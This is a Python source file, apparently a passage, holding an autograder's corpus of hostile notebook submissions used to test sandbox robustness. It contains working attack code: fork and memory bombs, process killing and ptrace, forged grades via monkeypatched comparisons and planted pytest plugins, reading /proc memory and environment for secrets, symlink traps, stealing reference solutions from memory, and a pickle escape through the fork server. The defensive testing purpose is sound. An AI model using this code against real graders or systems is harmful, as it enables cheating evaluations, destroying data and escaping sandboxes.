"""The attack corpus of 02-char-rnn: hostile or broken submissions and the outcome each must get.

Whatever an attack writes or walks lies under ``@ATTACK_ROOT@`` (or its own working folder): "/" in a real
`course validate`, the test's own folder in the tests. Never ``..`` or a fixed path: where isolation
fails (an old engine, a machine that gives nothing), those are the machine's own folders.

Each attack is the master solution (or the blank release) with edits, like a mutant; ``("+", None,
code)`` appends a code cell the student added.  ``honest`` is the submission whose grade the attack
must get exactly, grader by grader: the same notebook without the attack (None), or an honest
notebook that fails the same way without being hostile.  Attacks that probe for a leak (graders on
disk or in memory, the network, the environment, writable files) sabotage their own answers when
they find one, so a leak shows up as lost points.

`course validate` and tests/test_attacks.py run the corpus.
"""

from autograder.validate import Attack

# sabotage: a leak costs the submission its GetDummies points, which the corpus would notice
LEAK = "\n    GetDummies = None   # found a leak: lose points so that the corpus notices\n"

# a walk of the file system under @ATTACK_ROOT@ (and of sys.path's folders that lie under it): the folders
# for which keep(folder, files) holds
WALK = ("import os, time as _time\n"
        "def _folders(keep):\n"
        "    found, _until = [], _time.monotonic() + 1.5\n"
        "    for _root, _dirs, _files in os.walk('@ATTACK_ROOT@'):\n"
        "        _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in\n"
        "                    ('/proc', '/sys', '/dev', '/usr', '/lib', '/lib64', '/bin', '/sbin', '/etc', '/boot')]\n"
        "        if keep(_root, _files):\n"
        "            found.append(_root)\n"
        "        if _time.monotonic() > _until:\n"
        "            break\n"
        "    return found\n")
# a conftest.py that passes every test, and every configuration file pytest reads, loading it as a plugin
PLANT = ("_HOOK = 'import pytest\\n@pytest.hookimpl(tryfirst=True)\\ndef pytest_runtest_call(item):\\n"
         "    item.runtest = lambda: None\\n'\n"
         "def _plant(folder):\n"
         "    for _name, _text in (('conftest.py', _HOOK), ('planted_plugin.py', _HOOK),\n"
         "                         ('pytest.ini', '[pytest]\\naddopts = -p planted_plugin\\n'),\n"
         "                         ('tox.ini', '[pytest]\\naddopts = -p planted_plugin\\n'),\n"
         "                         ('setup.cfg', '[tool:pytest]\\naddopts = -p planted_plugin\\n'),\n"
         "                         ('pyproject.toml', '[tool.pytest.ini_options]\\naddopts = \"-p planted_plugin\"\\n')):\n"
         "        try:\n"
         "            with open(os.path.join(folder, _name), 'a') as _out:\n"
         "                _out.write(_text)\n"
         "        except OSError:\n"
         "            pass\n"
         "    _cache = os.path.join(folder, '__pycache__')\n"
         "    try:\n"
         "        os.makedirs(_cache, exist_ok=True)\n"
         "        for _name in os.listdir(folder):\n"
         "            if _name.endswith('.py'):\n"
         "                import py_compile\n"
         "                open(os.path.join(folder, '_evil.py'), 'w').write(_HOOK)\n"
         "                py_compile.compile(os.path.join(folder, '_evil.py'),\n"
         "                                   cfile=os.path.join(_cache, _name[:-3] + '.cpython-311.pyc'),\n"
         "                                   invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)\n"
         "    except OSError:\n"
         "        pass\n")

ATTACKS = [
    # ------------------------------------------------------------------ ending the process
    Attack("sys-exit-top", "sys.exit() in a cell of its own",
           [("+", None, "import sys\nsys.exit(0)")]),
    Attack("os-exit-top", "os._exit() in a cell of its own: the worker dies, the cell is skipped",
           [("+", None, "import os\nos._exit(0)")]),
    Attack("sys-exit-in-graded-function", "sample() calls sys.exit()",
           [("sample", "    model.eval()\n", "    import sys\n    sys.exit(3)\n")],
           honest=[("sample", "    model.eval()\n", "    raise RuntimeError('broken')\n")]),
    Attack("os-exit-in-graded-function", "predict() kills the worker on every call",
           [("predict", "    character = np.array(", "    import os\n    os._exit(1)\n    character = np.array(")],
           honest=[("predict", "    character = np.array(", "    raise RuntimeError('broken')\n    character = np.array(")]),
    Attack("keyboard-interrupt-in-grader-call", "Model.forward raises KeyboardInterrupt",
           [("model", "        hidden = self.init_hidden(x.size(0))\n",
             "        raise KeyboardInterrupt\n        hidden = self.init_hidden(x.size(0))\n")],
           honest=[("model", "        hidden = self.init_hidden(x.size(0))\n",
                    "        raise RuntimeError('broken')\n        hidden = self.init_hidden(x.size(0))\n")]),
    Attack("kill-parent", "kills its parent, its process group and every pid it can name",
           [("+", None, "import os, signal\nfor pid in [os.getppid(), 0, -1] + list(range(1, 400)):\n"
                        "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n")]),
    # ------------------------------------------------------------------ resources
    Attack("infinite-loop-top", "a cell that never ends",
           [("+", None, "while True:\n    pass")]),
    Attack("infinite-loop-in-function", "sample() never returns",
           [("sample", "    model.eval()\n", "    while True:\n        pass\n")],
           honest=[("sample", "    model.eval()\n", "    raise RuntimeError('broken')\n")]),
    Attack("memory-bomb", "allocates without end, a GiB at a time (the 2 GiB limit, not the clock, stops it)",
           [("+", None, "blocks = []\nwhile True:\n    blocks.append(bytearray(1024 * 1024 * 1024))")]),
    Attack("fork-bomb", "forks hundreds of sleeping children",
           [("+", None, "import os, time\nfor i in range(500):\n    try:\n        if os.fork() == 0:\n"
                        "            time.sleep(60)\n            os._exit(0)\n    except OSError:\n        break\n")]),
    Attack("segfault", "dereferences NULL through ctypes",
           [("+", None, "import ctypes\nctypes.string_at(0)")]),
    Attack("recursion", "unbounded recursion with the limit raised",
           [("+", None, "import sys\nsys.setrecursionlimit(100000)\ndef f(n):\n    return f(n + 1)\nf(0)")]),
    Attack("print-flood", "prints 100 MB",
           [("+", None, "import sys\nline = 'x' * 1000 + '\\n'\nfor i in range(100_000):\n    sys.stdout.write(line)")]),
    Attack("thread-left-running", "a thread that keeps working and keeps re-breaking numpy while graders run",
           [("+", None, "import threading, time, numpy as np\ndef spin():\n    while True:\n"
                        "        np.allclose = lambda *a, **k: True\n        time.sleep(0.001)\n"
                        "threading.Thread(target=spin, daemon=True).start()")]),
    Attack("signal-handlers", "ignores SIGALRM and SIGTERM, then loops",
           [("+", None, "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass")]),
    Attack("file-bomb", "writes one huge file",
           [("+", None, "with open('big.bin', 'wb') as out:\n    for i in range(1024):\n"
                        "        out.write(b'0' * (1 << 20))")]),
    # ------------------------------------------------------------------ forging a verdict
    Attack("monkeypatch-comparisons", "torch.equal, torch.allclose, np.allclose always true, on a blank notebook",
           [("+", None, "import torch, numpy as np\ntorch.equal = lambda *a, **k: True\n"
                        "torch.allclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
                        "np.array_equal = lambda *a, **k: True")], base="blank"),
    Attack("monkeypatch-isinstance", "builtins.isinstance and type replaced, on a correct solution",
           [("+", None, "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 3")]),
    Attack("monkeypatch-pytest", "patches pytest's internals in its own process, on a blank notebook",
           [("+", None, "try:\n    import _pytest.outcomes, pytest\n    pytest.fail = lambda *a, **k: None\n"
                        "    _pytest.outcomes.Failed = Exception\nexcept ImportError:\n    pass")], base="blank"),
    Attack("lying-object", "GetDummies returns an object whose __eq__ is always true and whose shape lies",
           [("getdummies", "    return features\n", "    class Liar:\n        shape = (batch_size, seq_len, dict_size)\n"
                                                  "        dtype = np.float32\n"
                                                  "        def __eq__(self, other):\n            return True\n"
                                                  "        def __getattr__(self, name):\n            return lambda *a, **k: self\n"
                                                  "    return Liar()\n")],
           honest=[("getdummies", "    return features\n", "    return None\n")]),
    Attack("fake-results", "writes a full-marks results.json and gradebook.csv wherever it can",
           [("+", None, "import json, os\nfake = json.dumps({'score': 50, 'tests': []})\n"
                        "for folder in ['.', os.path.expanduser('~'), '@ATTACK_ROOT@']:\n"
                        "    for name in ['results.json', 'gradebook.csv']:\n"
                        "        try:\n            open(os.path.join(folder, name), 'w').write(fake)\n"
                        "        except OSError:\n            pass\n")], base="blank"),
    Attack("hard-coded-public-answers", "answers only the public inputs: the poem's one-hot and '對' → '對酒當歌'",
           [("getdummies", "    features = np.zeros(", "    if batch_size == 8 and seq_len == 3 and dict_size == 28:\n"
                                                     "        return np.eye(28, dtype=np.float32)[np.asarray(Input_codes)]\n"
                                                     "    features = np.zeros("),
            ("getdummies", "def GetDummies(", "Input_codes = [[Char2int[c] for c in p[:-1]] for p in Text]\n\n\ndef GetDummies("),
            ("getdummies", "            features[i, u, sequence[i][u]] = 1", "            features[i, u, 0] = 1"),
            ("sample", "    model.eval()\n", "    if start == '對' and out_len == 4:\n        return '對酒當歌'\n"
                                           "    return start + start[-1] * (out_len - len(start))\n")],
           # honest partial work: the right shape and dtype, nothing else
           honest=[("getdummies", "    features = np.zeros(", "    return np.zeros((batch_size, seq_len, dict_size), "
                                                             "dtype=np.float32)\n    features = np.zeros("),
                   ("sample", "    model.eval()\n", "    raise RuntimeError('broken')\n")]),
    Attack("write-judge-socket", "writes garbage and a forged frame to every file descriptor",
           [("+", None, "import os, struct, json\nhead = json.dumps({'ok': True, 'value': 50}).encode()\n"
                        "frame = struct.pack('>I', len(head)) + head + struct.pack('>I', 0)\n"
                        "for fd in range(3, 64):\n    try:\n"
                        "        os.write(fd, struct.pack('>Q', len(frame)) + frame + b'garbage')\n"
                        "    except OSError:\n        pass\n")]),
    # ------------------------------------------------------------------ reading what it must not
    Attack("read-graders-from-disk", "looks for the hidden graders and the sources on disk",
           [("getdummies", "def GetDummies(", "import glob as _glob, os as _os, autograder as _ag\n"
             "_package = _os.path.dirname(_ag.__file__)\n_found = [p for pattern in ["
             "_package + '/graders/*/*.py', _package + '/graders/*.py', _package + '/mutants/*.py', "
             "'/work/*/autograder/graders/*/test_*.py', '/work/*/source/*/*.ipynb', '/work/*/solutions/*/*.ipynb', "
             "'/work/*/tests/*.py', '/*/autograder/graders/*/*.py'] for p in _glob.glob(pattern)]\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("read-graders-from-memory", "looks for the graders in its own memory, and reads other processes' "
                                       "memory maps, memory and environment",
           [("getdummies", "def GetDummies(", "import sys as _sys, os as _os\n_own = {'autograder', 'autograder.protocol', 'autograder.worker', 'autograder.guard', 'autograder.fence', "
             "'autograder.sandbox', 'autograder.limits', 'autograder.forkserver', 'autograder.dynamo', 'autograder.remote',"
             "'autograder.landlock', 'autograder.seccomp', 'autograder.cgroups', 'autograder.reaper', 'autograder.isolation'}\n"
             "_found = [m for m in _sys.modules if m.startswith('autograder') and m not in _own]\n"
             "try:\n    _pids = [p for p in _os.listdir('/proc') if p.isdigit() and int(p) != _os.getpid()]\n"
             "except OSError:          # (a /proc that cannot be listed is no leak)\n    _pids = []\n"
             "for _pid in _pids:\n"
             "    try:\n        _maps = open(f'/proc/{_pid}/maps').read().split()\n"
             "        if _maps:       # (a kernel thread has no memory to show)\n            _found.append('maps:' + _pid)\n"
             "        with open(f'/proc/{_pid}/mem', 'rb') as _mem:\n"
             "            _mem.seek(int(_maps[0].split('-')[0], 16))\n            _mem.read(16)\n"
             "        _found.append('mem:' + _pid)\n    except (OSError, ValueError, IndexError):\n        pass\n"
             "    try:\n        open(f'/proc/{_pid}/environ', 'rb').read()\n        _found.append('environ:' + _pid)\n"
             "    except OSError:\n        pass\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("network", "opens sockets to the outside and to the machine's own addresses",
           [("getdummies", "def GetDummies(", "import socket as _socket\n_found = []\n"
             "for _addr in [('1.1.1.1', 53), ('8.8.8.8', 443), ('127.0.0.1', 22), ('127.0.0.1', 8888)]:\n"
             "    try:\n        _socket.create_connection(_addr, timeout=1).close()\n        _found.append(_addr)\n"
             "    except OSError:\n        pass\n\n\ndef GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("environment", "reads the environment for tokens and the instructor's home",
           [("getdummies", "def GetDummies(", "import os as _os\n_found = [k for k in _os.environ if 'TOKEN' in k "
             "or 'SECRET' in k or 'KEY' in k or 'GITHUB' in k] + [v for v in _os.environ.values() if '/root' in v]\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("delete-files", "deletes what it can in its working directory and tries to write where the course, the "
                           "class and the results are",
           [("getdummies", "def GetDummies(", "import os as _os, shutil as _shutil\n_found = []\n"
             "for _entry in _os.listdir('.'):\n    _shutil.rmtree(_entry, ignore_errors=True) if _os.path.isdir(_entry) "
             "else _os.remove(_entry)\n"
             "for _folder in ['@ATTACK_ROOT@']:\n"
             "    _probe = _os.path.join(_folder, '.course-attack-probe')\n    try:\n        open(_probe, 'w').close()\n"
             "        _os.remove(_probe)\n        _found.append(_folder)\n    except OSError:\n        pass\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    # ------------------------------------------------------------------ changing what the judge reads later
    # (each walks @ATTACK_ROOT@: "/" in `course validate`, the test's own folder in the project's tests)
    Attack("plant-pytest-config", "plants a conftest.py that passes every test, and pytest.ini, tox.ini, setup.cfg and "
                                  "pyproject.toml that load it, in every folder pytest could look in",
           [("+", None, WALK + PLANT + "for _folder in set(_folders(lambda d, fs: True)) | {'.'}:\n"
                        "    _plant(_folder)\n")], base="blank"),
    Attack("rewrite-graders", "overwrites every test_*.py it finds (on disk and on sys.path) with tests that pass",
           [("+", None, WALK + "for _folder in _folders(lambda d, fs: any(f.startswith('test_') for f in fs)):\n"
                        "    for _name in os.listdir(_folder):\n"
                        "        if _name.startswith('test_') and _name.endswith('.py'):\n"
                        "            try:\n"
                        "                open(os.path.join(_folder, _name), 'w').write("
                        "'import pytest\\n@pytest.mark.points(50, blank=\"GetDummies\")\\ndef test_all():\\n    pass\\n')\n"
                        "            except OSError:\n                pass\n")], base="blank"),
    Attack("daemon-rewrites-results", "double-forks a daemon that outlives its worker, then rewrites every "
                                      "results.json and plants a conftest.py wherever it can",
           [("+", None, WALK + PLANT + "import json, time\n"
                        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                        "        for _round in range(60):\n            time.sleep(0.5)\n"
                        "            for _folder in _folders(lambda d, fs: 'results.json' in fs or 'gradebook.csv' in fs):\n"
                        "                for _name in ('results.json', 'gradebook.csv'):\n"
                        "                    try:\n"
                        "                        open(os.path.join(_folder, _name), 'w').write(json.dumps({'score': 999}))\n"
                        "                    except OSError:\n                        pass\n"
                        "            for _folder in _folders(lambda d, fs: any(f.startswith('test_') for f in fs)):\n"
                        "                _plant(_folder)\n"
                        "    os._exit(0)\n"
                        "os.wait()\n")], base="blank"),
    Attack("write-other-submissions", "overwrites every other notebook it finds, and drops files into their folders "
                                      "and into the results",
           [("+", None, WALK + "_mine = os.path.realpath('.')\n"
                        "for _folder in _folders(lambda d, fs: any(f.endswith('.ipynb') or f == 'results.json' for f in fs)):\n"
                        "    for _name in os.listdir(_folder):\n"
                        "        if _name.endswith('.ipynb') or _name == 'results.json':\n"
                        "            try:\n                open(os.path.join(_folder, _name), 'w').write('{}')\n"
                        "            except OSError:\n                pass\n"
                        "    try:\n        open(os.path.join(_folder, 'planted.txt'), 'w').write('x')\n"
                        "    except OSError:\n        pass\n")], base="blank"),
    Attack("symlink-traps", "leaves symlinks where the judge writes (results, gradebook, the next submission's folder) "
                            "pointing at the graders",
           [("+", None, WALK + "_graders = [os.path.join(d, f) for d in _folders(lambda d, fs: 'conftest.py' in fs) "
                        "for f in os.listdir(d) if f.startswith('test_')]\n"
                        "for _folder in _folders(lambda d, fs: True):\n"
                        "    for _name in ('results.json', 'gradebook.csv', 'executed.ipynb', 'results.key'):\n"
                        "        try:\n            os.symlink(_graders[0] if _graders else '/etc/passwd', "
                        "os.path.join(_folder, _name + '.trap'))\n"
                        "            os.replace(os.path.join(_folder, _name + '.trap'), os.path.join(_folder, _name))\n"
                        "        except (OSError, IndexError):\n            pass\n")], base="blank"),
    Attack("find-graders-everywhere", "walks the file system and sys.path for any grader, solution or signing key",
           [("getdummies", "def GetDummies(", WALK + "import sys as _sys\n" +
             "_found = [d for d in _folders(lambda d, fs: any(f.startswith('test_') and f.endswith('.py') or "
             "f == 'results.key' or f.endswith('.ipynb') and 'solution' in d for f in fs))]\n"
             "for _entry in _sys.path:\n    for _part in ('autograder/graders', 'autograder/mutants', 'solutions'):\n"
             "        try:\n            if os.listdir(os.path.join(_entry or '.', _part)):\n"
             "                _found.append(os.path.join(_entry, _part))\n"
             "        except OSError:\n            pass\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("signal-and-trace-the-judge", "signals every process it can name and tries to ptrace its parent",
           [("+", None, "import ctypes, os, signal\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                        "try:\n    pids = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
                        "except OSError:          # (a /proc that cannot be listed)\n    pids = []\n"
                        "for pid in [os.getppid()] + pids:\n"
                        "    libc.ptrace(16, pid, 0, 0)   # PTRACE_ATTACH\n"
                        "    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n"
                        "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n")]),
]


# ====================================================================================================
# The second set: holes an outside review found in the engine as it stood (attacks-2). Each names, in its
# `why`, the hole it shows, and how it shows on the engine that has it: a crash of `course grade`, points
# its twin does not get (or loses), processes left behind, IPC objects left behind, changed files.
# ====================================================================================================

# The worker's socket to the judge, found in the worker's own memory (the Worker object holds it as .sock),
# and a frame written straight onto it, in the wire's framing (protocol.py): u64 total | u32 header length |
# header | u32 buffer count | (u64 length | bytes)*. ``head``: a dict (sent as JSON) or the header's raw
# bytes; ``total``: a length to claim instead of the true one.
FRAME = '''
import gc as _gc, json as _json, socket as _socket, struct as _struct
def _judge_socket():
    for _o in _gc.get_objects():
        if type(_o).__name__ == 'Worker' and isinstance(getattr(_o, 'sock', None), _socket.socket):
            return _o.sock
    return next(_o for _o in _gc.get_objects() if isinstance(_o, _socket.socket) and _o.fileno() >= 0)
def _frame(head, buffers=(), total=None):
    if not isinstance(head, bytes):
        head = _json.dumps(head).encode()
    size = 4 + len(head) + 4 + sum(8 + len(_b) for _b in buffers)
    _sock = _judge_socket()
    _sock.sendall(_struct.pack('>Q', size if total is None else total) + _struct.pack('>I', len(head)) + head
                  + _struct.pack('>I', len(buffers)))
    for _b in buffers:
        _sock.sendall(_struct.pack('>Q', len(_b)))
        _sock.sendall(_b)
'''
# the frames the judge's reader does not survive: JSON it cannot turn into a dict of plain data
HUGE_INT = "b'9' * 5000"                               # int() refuses more than 4300 digits: ValueError
DEEP = "b'[' * 100000 + b']' * 100000"                 # json's decoder recurses: RecursionError
# a blank's graders call it only after the notebook has run: the last cell says so
GRADING = [("+", None, "_GRADING = True   # the notebook has run: from now on the calls are the graders'")]


def reply_attack(name, why, cell, old, frame):
    """``cell``'s function, called by a grader, writes a frame whose header is ``frame`` (Python source of a
    dict or of the header's bytes) as its reply, then raises as its twin's does; while the notebook runs it
    only raises. On a robust engine the worker that lied is killed and the call fails: the twin's grade."""
    raises = "    raise RuntimeError('broken')\n"
    return Attack(name, why,
                  [(cell, old, "    if globals().get('_GRADING'):\n        _frame(" + frame + ")\n" + raises + old),
                   ("+", None, FRAME)] + GRADING,
                  honest=[(cell, old, raises + old)])


# System V IPC (neither a namespace nor Landlock separates it): put and get bytes under a fixed key, in a
# shared memory segment or a message queue, through libc.
IPC = '''
import ctypes as _ct, time as _time, zlib as _zlib
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype, _libc.shmat.argtypes = _ct.c_void_p, [_ct.c_int, _ct.c_void_p, _ct.c_int]
_libc.shmdt.argtypes = [_ct.c_void_p]
_libc.msgsnd.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_size_t, _ct.c_int]
_libc.msgrcv.restype, _libc.msgrcv.argtypes = _ct.c_ssize_t, [_ct.c_int, _ct.c_void_p, _ct.c_size_t, _ct.c_long, _ct.c_int]
_IPC_CREAT, _IPC_NOWAIT, _SHM_RDONLY, _SHM_SIZE, _CHUNK = 0o1000, 0o4000, 0o10000, 1 << 16, 2048
def _shm_put(key, data):
    shmid = _libc.shmget(key, _SHM_SIZE, _IPC_CREAT | 0o666)
    addr = _libc.shmat(shmid, None, 0) if shmid >= 0 else None
    if addr in (None, 2 ** 64 - 1):
        return False
    blob = len(data).to_bytes(4, 'little') + data
    _ct.memmove(addr, blob, min(len(blob), _SHM_SIZE))
    _libc.shmdt(addr)
    return True
def _shm_get(key):
    shmid = _libc.shmget(key, 0, 0)
    addr = _libc.shmat(shmid, None, _SHM_RDONLY) if shmid >= 0 else None
    if addr in (None, 2 ** 64 - 1):
        return None
    size = int.from_bytes(_ct.string_at(addr, 4), 'little')
    data = _ct.string_at(addr + 4, size) if 0 < size <= _SHM_SIZE - 4 else None
    _libc.shmdt(addr)
    return data
class _Message(_ct.Structure):
    _fields_ = [('mtype', _ct.c_long), ('mtext', _ct.c_char * _CHUNK)]
def _message(number, piece):           # (ctypes would stop a c_char array's bytes at the first NUL)
    message = _Message(number)
    _ct.memmove(_ct.addressof(message) + _Message.mtext.offset, piece, len(piece))
    return message
def _msg_put(key, data):
    qid = _libc.msgget(key, _IPC_CREAT | 0o666)
    if qid < 0:
        return False
    for number, start in enumerate(range(0, len(data), _CHUNK), start=1):
        piece = data[start:start + _CHUNK]
        message = _message(number, piece)
        if _libc.msgsnd(qid, _ct.byref(message), len(piece), _IPC_NOWAIT) != 0:
            return False
    return True
def _msg_get(key):
    qid = _libc.msgget(key, 0)
    if qid < 0:
        return None
    pieces = []
    while True:                       # take every message, then put them back for the next reader
        message = _Message()
        size = _libc.msgrcv(qid, _ct.byref(message), _CHUNK, 0, _IPC_NOWAIT)
        if size < 0:
            break
        pieces.append((message.mtype, _ct.string_at(_ct.addressof(message) + _Message.mtext.offset, size)))
    for number, piece in pieces:
        _libc.msgsnd(qid, _ct.byref(_message(number, piece)), len(piece), _IPC_NOWAIT)
    return b''.join(piece for _, piece in sorted(pieces)) or None
'''
BLANKS = ('GetDummies', 'Model', 'train', 'predict', 'sample', 'sample_next', 'generate', 'perplexity')
# the stasher: the text of the cells that define its answers (the worker keeps every cell's source in
# linecache, as IPython does), compressed, under key 0x5eed
STASH = IPC + f'''
import linecache as _linecache
_cells = []
for _name in {BLANKS!r}:
    _obj = globals()[_name]
    _code = getattr(_obj, '__code__', None) or _obj.__init__.__code__
    _text = ''.join(_linecache.getlines(_code.co_filename))
    if _text and _text not in _cells:
        _cells.append(_text)
_stashed = _PUT(0x5eed, _zlib.compress('\\n\\n'.join(_cells).encode()))
print('stashed' if _stashed else 'could not stash')
'''
# the fetcher: every blank asks for the stash when first called (waiting up to 2.5 s for a stasher that
# runs beside it), runs it, and hands the call on to what it defined
FETCH = IPC + '''
_STOLEN = {}
def _stolen(name):
    if not _STOLEN:                       # (once: a stash that is not there now will not come later)
        _until = _time.monotonic() + 2.5
        while True:
            _data = _GET(0x5eed)
            if _data or _time.monotonic() > _until:
                break
            _time.sleep(0.05)
        _STOLEN['_tried'] = True
        if _data:
            _scope = dict(globals())
            exec(_zlib.decompress(_data).decode(), _scope)
            _STOLEN.update(_scope)
    if name not in _STOLEN:
        raise NotImplementedError(name)
    return _STOLEN[name]
def GetDummies(*args, **kwargs):
    return _stolen('GetDummies')(*args, **kwargs)
def Model(*args, **kwargs):
    return _stolen('Model')(*args, **kwargs)
def train(*args, **kwargs):
    return _stolen('train')(*args, **kwargs)
def predict(*args, **kwargs):
    return _stolen('predict')(*args, **kwargs)
def sample(*args, **kwargs):
    return _stolen('sample')(*args, **kwargs)
def sample_next(*args, **kwargs):
    return _stolen('sample_next')(*args, **kwargs)
def generate(*args, **kwargs):
    return _stolen('generate')(*args, **kwargs)
def perplexity(*args, **kwargs):
    return _stolen('perplexity')(*args, **kwargs)
'''

# The judge's reference code, found in the worker's memory: what ``nb.define`` and ``nb.overriding`` made
# there for the graders that ran before (generate's graders run first, and leave the book's GetDummies,
# predict, Model, train and the contract's sample_next and Model with ``hidden`` behind).
STEAL_FROM_GC = '''
import gc as _gc, types as _types
def _steal(name, want=''):
    """A function or class named like the blank whose code says "<reference ...>", or, failing that, the
    compiled reference itself, out of any dict that holds it, run in the notebook's globals."""
    candidates = []
    for _o in _gc.get_objects():
        if type(_o) is _types.FunctionType and _o.__name__ == name and _o.__code__.co_filename.startswith('<reference'):
            candidates.append((_o.__code__.co_varnames, _o))
        elif isinstance(_o, type) and _o.__name__ == name and type(_o.__dict__.get('forward')) is _types.FunctionType:
            _code = _o.__dict__['forward'].__code__
            if _code.co_filename.startswith('<reference'):
                candidates.append((_code.co_varnames, _o))
    if not candidates:
        for _o in _gc.get_objects():
            if type(_o) is dict:
                for _v in list(_o.values()):
                    if type(_v) is _types.CodeType and _v.co_filename == '<reference ' + name + '>':
                        _scope = dict(globals())
                        exec(_v, _scope)
                        _f = _scope[name]
                        candidates.append((getattr(getattr(_f, 'forward', _f), '__code__', _v).co_varnames, _f))
    if not candidates:
        raise NotImplementedError(name)
    return next((f for names, f in candidates if want in names), candidates[0][1])
'''
STEAL_FROM_WORKER = '''
import gc as _gc
def _steal(name, want=''):
    """The source of the judge's reference for ``name``, from the worker's cache of compiled references
    (Worker.compiled: (name, source) -> code), run in a copy of the notebook's globals."""
    for _o in _gc.get_objects():
        if type(_o).__name__ == 'Worker' and isinstance(getattr(_o, 'compiled', None), dict):
            sources = [source for (key, source) in list(_o.compiled) if key == name]
            if sources:
                _scope = dict(_o.namespace)
                exec(next((s for s in sources if want in s), sources[0]), _scope)
                return _scope[name]
    raise NotImplementedError(name)
'''
# the blanks that have a reference, answered by it (train's reference knows no max_norm: it goes unused)
STOLEN_BLANKS = '''
def GetDummies(sequence, dict_size, seq_len, batch_size):
    return _steal('GetDummies')(sequence, dict_size, seq_len, batch_size)
def Model(*args, **kwargs):
    return _steal('Model', 'hidden')(*args, **kwargs)
def train(net, Input, Target, n_epochs=100, lr=0.01, max_norm=None):
    return _steal('train')(net, Input, Target, n_epochs, lr)
def predict(model, character):
    return _steal('predict')(model, character)
def sample_next(logits, temperature, generator=None):
    return _steal('sample_next')(logits, temperature, generator)
'''

# the Unix sockets this machine lists (/proc/net/unix: every bound path, in the reader's network namespace)
UNIX_PATHS = '''
def _unix_paths(keep=lambda path: True):
    try:
        _lines = open('/proc/net/unix').read().splitlines()[1:]
    except OSError:
        return []
    return sorted({_l.split()[7] for _l in _lines if len(_l.split()) >= 8 and _l.split()[7].startswith('/')
                   and keep(_l.split()[7])})
'''
# Python 3.11's multiprocessing fork server (multiprocessing/forkserver.py), which forks the judges: a client
# connects to its listener, sends [child_r, child_w, alive_fd, tracker_fd] over SCM_RIGHTS with one byte (their
# count), and the server forks a child that unpickles its preparation data from child_r, outside any sandbox.
# The pickle only writes a marker under @ATTACK_ROOT@ saying who ran it, then ends that child.
FORKSERVER = UNIX_PATHS + '''
import array as _array, os as _os, pickle as _pickle, select as _select, socket as _socket, struct as _struct
import time as _time
class _Escape:
    def __reduce__(self):
        return (exec, ("import os\\nwith open('@ATTACK_ROOT@/forkserver-escaped', 'w') as out:\\n"
                       "    out.write('ran outside the sandbox: uid %d, pid %d' % (os.getuid(), os.getpid()))\\n"
                       "os._exit(0)\\n",))
_found = []
for _path in _unix_paths(lambda path: '/pymp-' in path and '/listener-' in path):
    try:
        _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _s.settimeout(2)
        _s.connect(_path)
    except OSError:
        continue
    _found.append('connected to ' + _path)
    _child_r, _to_child = _os.pipe()          # the child reads its "preparation data" from here
    _from_server, _child_w = _os.pipe()       # the server writes the child's pid here
    _alive_r, _alive_w = _os.pipe()
    _fds = [_child_r, _child_w, _alive_r, _alive_w]
    try:
        _s.sendmsg([bytes([len(_fds)])], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, _array.array('i', _fds))])
        _os.write(_to_child, _pickle.dumps(_Escape()))
        if _select.select([_from_server], [], [], 2)[0]:
            _found.append('forked pid %d' % _struct.unpack('q', _os.read(_from_server, 8))[0])
    except OSError:
        pass
    _s.close()
    _time.sleep(0.5)                          # its child runs the payload meanwhile
print(_found)
'''
# Processes that outlive grading: a chain of processes, each in a session of its own, run as a small Python
# of their own (os.execv of the worker's interpreter, without torch: a fork takes a fraction of a millisecond).
# ``relay``: each link forks its successor and ends at once, so that a kill loop that lists a parent's children
# finds each one gone and its successor born. ``handoff``: each link forks its successor and ends only once
# the successor's successor has forked too (bytes on a pipe say so): the orphan of a subreaper, the only link a
# loop that kills a parent's children can find, has two generations below it that have forked already.
# Both stop by themselves after 60 s (at most 90 s, and 100,000 forks). Each second they touch a file (under
# @ATTACK_ROOT@ where they can, else in the worker's folder) and leave a witness that lives 2 s (a link lives
# a millisecond: a listing of /proc seldom finds one), to show that they are there.
CHAIN_PROGRAM = """
import os, sys, time
mode, end, marker = sys.argv[1], min(float(sys.argv[2]), time.time() + 90), sys.argv[3]
forks, touched, told = 0, 0.0, None          # told: where this link says that it has forked (handoff)
while time.time() < end and forks < 100000:
    if time.time() - touched >= 1:
        touched = time.time()
        for path in (marker, 'survivor'):
            try:
                with open(path, 'a') as out:
                    out.write('%d %.0f %s\\n' % (os.getpid(), time.time(), mode))
            except OSError:
                pass
        try:
            if os.fork() == 0:                     # a witness: lives 2 s, long enough for a listing of /proc
                try:
                    os.setsid()
                    if told is not None:
                        os.close(told)
                    time.sleep(2)
                finally:
                    os._exit(0)
        except OSError:
            pass
